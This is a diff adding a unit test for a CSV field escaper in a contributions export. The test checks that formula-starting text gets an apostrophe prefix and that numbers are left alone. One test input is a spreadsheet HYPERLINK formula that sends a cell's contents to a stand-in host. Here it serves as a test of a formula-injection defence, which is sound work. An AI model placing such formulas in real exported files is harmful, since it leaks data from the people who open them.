@@ -11,6 +11,18 @@ describe('contributions CSV', () => {
     expect(csvField(-1250)).toBe('-1250');
   });
 
+  it('keeps a text that would start a spreadsheet formula as text, and leaves numbers alone', () => {
+    expect(csvField('=HYPERLINK("http://x.example/?a="&A1,"plan")')).toBe('"\'=HYPERLINK(""http://x.example/?a=""&A1,""plan"")"');
+    expect(csvField('+1+1')).toBe("'+1+1");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    expect(csvField('401(k) = pre-tax')).toBe('401(k) = pre-tax');
+    expect(csvField(-1250)).toBe('-1250');
+    expect(csvField(0)).toBe('0');
+  });
+
   it('writes CRLF lines in the column order of the header', () => {
     const header = contributionsCsvHeader();
     expect(header.endsWith('\r\n')).toBe(true);
